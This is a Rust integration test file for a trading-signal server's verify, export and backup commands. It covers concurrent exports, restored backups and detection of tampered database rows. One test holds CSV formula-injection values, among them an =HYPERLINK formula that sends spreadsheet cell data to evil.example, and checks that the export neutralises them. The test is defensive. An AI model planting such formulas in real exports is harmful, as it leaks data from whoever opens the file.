//! `verify`, `export` and `backup` of the real binary, beside a running server and on what it leaves.

use std::path::Path;
use std::process::{Output, Stdio};

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::{Native, Server, binary, soon};

/// A command on a data directory.
async fn run(dir: &Path, args: &[&str]) -> Output {
    let mut command = binary();
    command.current_dir(dir).env("ORION_DATA_DIR", dir).args(args);
    soon("it ends", command.output()).await.unwrap()
}

fn text(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).unwrap()
}

async fn push_new(server: &Server, id: usize) {
    let body = json!({"id": format!("s{id}"), "symbol": "EURUSD", "direction": "long", "entry_price": 1.085,
        "stop_loss": 1.082, "take_profits": [1.088], "reason": "a, \"b\"\nc", "confidence": 0.8});
    server.push(&body).await;
}

/// The answer to the subscription that a native client has from the start.
async fn subscribed(server: &Server, query: &str) -> Value {
    Native::connect(server.addr, &format!("/ws/signals{query}")).await.frame("subscribed").await
}

/// All ids in an export, which has to be whole.
fn exported(csv: &[u8]) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv);
    assert_eq!(reader.headers().unwrap().iter().take(4).collect::<Vec<_>>(), ["seq", "at", "stored_at", "id"]);
    reader.records().map(|record| record.unwrap()[3].to_owned()).collect()
}

#[tokio::test]
async fn export_and_verify_work_beside_a_running_server() {
    let dir = TempDir::new().unwrap();
    let server = Server::start_on(&dir, &[]).await;
    for id in 0..20 {
        push_new(&server, id).await;
    }
    let pushing = async {
        for id in 20..120 {
            push_new(&server, id).await;
        }
    };
    let looking = async {
        for _ in 0..3 {
            let export = run(dir.path(), &["export", "--format", "csv"]).await;
            assert_eq!((export.status.code(), text(&export.stderr)), (Some(0), ""));
            let ids = exported(&export.stdout);
            assert!(ids.len() >= 20, "{ids:?}");
            assert_eq!(ids, (0..ids.len()).map(|id| format!("s{id}")).collect::<Vec<_>>());
            let verify = run(dir.path(), &["verify"]).await;
            assert!(text(&verify.stdout).starts_with("ok: "), "{verify:?}");
        }
    };
    tokio::join!(pushing, looking);

    let file = dir.path().join("signals.json");
    let export = ["export", "--format", "json", "--output", file.to_str().unwrap()];
    let first = run(dir.path(), &export).await;
    assert_eq!(text(&first.stdout), format!("ok: 120 events in {}\n", file.display()));
    let events: Vec<Value> = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!((events.len(), &events[119]["signal"]["id"]), (120, &json!("s119")));
    let again = run(dir.path(), &export).await;
    assert_eq!((again.status.code(), text(&again.stdout)), (Some(1), ""));
    assert!(text(&again.stderr).ends_with("exists already and is not overwritten\n"), "{again:?}");

    let (_, metrics) = server.get("/metrics").await;
    let names = ["commit_seconds_count", "batch_size_sum 120", "log_bytes", "events 120", "errors_total 0"];
    for name in names.map(|name| format!("\norion_store_{name}")) {
        assert!(metrics.as_str().unwrap().contains(&name), "no {name} in {metrics}");
    }

    let verify = run(dir.path(), &["verify"]).await;
    assert_eq!(text(&verify.stdout).lines().next(), Some("ok: 120 events, seq 1–120, 0 pruned before"));
}

#[tokio::test]
async fn an_export_into_a_closed_pipe_ends_quietly() {
    let dir = TempDir::new().unwrap();
    push_new(&Server::start_on(&dir, &[]).await, 1).await;
    for args in [&["export", "--format", "csv"][..], &["export", "--format", "json"], &["verify"], &["default-config"]]
    {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let mut command = binary();
        let command = command
            .current_dir(&dir)
            .env("ORION_DATA_DIR", dir.path())
            .args(args)
            .stdout(writer)
            .stderr(Stdio::piped());
        let ended = command.spawn().unwrap().wait_with_output().await.unwrap();
        assert_eq!((ended.status.code(), text(&ended.stderr)), (Some(0), ""), "{args:?}");
    }
}

#[tokio::test]
async fn a_backup_serves_the_history_under_another_epoch() {
    let (dir, restored) = (TempDir::new().unwrap(), TempDir::new().unwrap());
    let original = Server::start_on(&dir, &[]).await;
    for id in 0..5 {
        push_new(&original, id).await;
    }
    original.push(&json!({"id": "s1", "status": "confirmed"})).await;
    let cursor = subscribed(&original, "").await["cursor"].as_str().unwrap().to_owned();

    let copy = dir.path().join("copy.db");
    let backup = run(dir.path(), &["backup", copy.to_str().unwrap()]).await;
    assert_eq!((backup.status.code(), text(&backup.stderr)), (Some(0), ""));
    assert!(text(&backup.stdout).starts_with(&format!("ok: copied to {} (", copy.display())), "{backup:?}");
    let before = std::fs::read(&copy).unwrap();
    let verify = run(restored.path(), &["verify", "--dir", copy.to_str().unwrap()]).await;
    assert_eq!(text(&verify.stdout).lines().next(), Some("ok: 6 events, seq 1–6, 0 pruned before"));
    let again = run(dir.path(), &["backup", copy.to_str().unwrap()]).await;
    assert_eq!(again.status.code(), Some(1));
    assert_eq!(std::fs::read(&copy).unwrap(), before, "nothing touches a backup");

    // What is pushed from here on goes other ways in the two logs.
    push_new(&original, 5).await;
    std::fs::copy(&copy, restored.path().join("orion.db")).unwrap();
    let restored = Server::start_on(&restored, &[]).await;
    push_new(&restored, 6).await;
    let resume = format!("?since={cursor}");
    assert_eq!(subscribed(&original, &resume).await["recovered"], true);
    let answer = subscribed(&restored, &resume).await;
    assert_eq!(answer["recovered"], false);
    let epochs = [&cursor, answer["cursor"].as_str().unwrap()].map(|cursor| cursor.split_once(':').unwrap().0);
    assert_ne!(epochs[0], epochs[1]);

    for path in ["/api/signals/s1", "/api/signals/s4"] {
        let theirs = original.get(path).await.1.to_string().replace(epochs[0], epochs[1]);
        assert_eq!(restored.get(path).await.1.to_string(), theirs);
    }
    let (_, page) = restored.get("/api/signals").await;
    let ids: Vec<_> = page["signals"].as_array().unwrap().iter().map(|signal| &signal["id"]).collect();
    assert_eq!(ids, ["s6", "s4", "s3", "s2", "s1", "s0"]);
}

#[tokio::test]
async fn verify_names_a_row_that_was_tampered_with() {
    let dir = TempDir::new().unwrap();
    let server = Server::start_on(&dir, &[]).await;
    for id in 0..4 {
        push_new(&server, id).await;
    }
    server.kill().await;
    let database = rusqlite::Connection::open(dir.path().join("orion.db")).unwrap();
    let edit = "UPDATE signal_events SET body = replace(body, '1.085', '1.086') WHERE seq = 3";
    assert_eq!(database.execute(edit, []).unwrap(), 1);

    let verify = run(dir.path(), &["verify"]).await;
    assert_eq!((verify.status.code(), text(&verify.stderr)), (Some(1), ""));
    assert!(text(&verify.stdout).starts_with("broken at seq 3: "), "{verify:?}");
    // Saving what can be saved is not verifying.
    let copy = dir.path().join("copy.db");
    assert_eq!(run(dir.path(), &["backup", copy.to_str().unwrap()]).await.status.code(), Some(0));
}

#[tokio::test]
async fn commands_find_the_log_through_the_settings() {
    let dir = TempDir::new().unwrap();
    Server::start_on(&dir, &[]).await.kill().await;
    let failed = |output: &Output| (output.status.code(), text(&output.stdout).is_empty());

    std::fs::write(dir.path().join("settings.toml"), "[data]\ndir = \"nowhere\"\n").unwrap();
    let missing = binary().current_dir(&dir).args(["verify", "--config", "settings.toml"]).output().await.unwrap();
    assert_eq!(failed(&missing), (Some(1), true));
    assert_eq!(text(&missing.stderr), "orion-server: there is no signal log at nowhere\n");
    let args = ["verify", "--config", "settings.toml", "--dir", "."];
    let named = binary().current_dir(&dir).args(args).output().await.unwrap();
    assert_eq!(text(&named.stdout).lines().next(), Some("ok: 0 events, 0 pruned before"), "{named:?}");

    let wrong = binary().current_dir(&dir).args(["verify"]).env("ORION_SIGNAL_TTL", "soon").output().await.unwrap();
    assert_eq!(failed(&wrong), (Some(64), true), "{wrong:?}");
    for args in [&["export"][..], &["export", "--format", "xml"], &["backup"]] {
        assert_eq!(failed(&run(dir.path(), args).await), (Some(64), true), "{args:?}");
    }
}

/// Case 61: whoever opens the file is not who pushed what is in it.
#[tokio::test]
async fn an_exported_csv_is_safe_in_a_spreadsheet() {
    let dir = TempDir::new().unwrap();
    let server = Server::start_on(&dir, &[]).await;
    let link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
    let body = json!({"id": "=1+1", "symbol": "EURUSD", "direction": "long", "reason": link, "tp_modes": ["@SUM(A1)"],
        "model": "+cmd", "entry_price": 1.16, "stop_loss": 1.157, "take_profits": [1.165],
        "entry_time": "2026-01-15T07:00:00.250Z"});
    server.push(&body).await;
    let end = json!({"id": "=1+1", "status": "invalidated", "invalidation": "-2+3"});
    server.push(&end).await;
    let export = run(dir.path(), &["export", "--format", "csv"]).await;
    let mut reader = csv::Reader::from_reader(&*export.stdout);
    let headers = reader.headers().unwrap().clone();
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |name: &str| &records[1][headers.iter().position(|header| header == name).unwrap()];
    for (name, value) in [
        ("id", "'=1+1"),
        ("reason", &format!("'{link}")),
        ("tp_modes", "'@SUM(A1)"),
        ("model", "'+cmd"),
        ("invalidation", "'-2+3"),
        ("entry_price", "1.16"),
        ("take_profits", "1.165"),
        ("entry_time", "2026-01-15 07:00:00.250"),
        ("symbol", "EURUSD"),
    ] {
        assert_eq!(cell(name), value, "{name}");
    }
    for name in ["at", "stored_at", "expires_at"] {
        let time = chrono::NaiveDateTime::parse_from_str(cell(name), "%Y-%m-%d %H:%M:%S%.3f");
        assert!(time.is_ok(), "{name}: {}", cell(name));
    }
    let export = run(dir.path(), &["export", "--format", "json"]).await;
    let events: Value = serde_json::from_slice(&export.stdout).unwrap();
    assert_eq!(events[0]["signal"]["reason"], link, "JSON is as it was pushed");
}
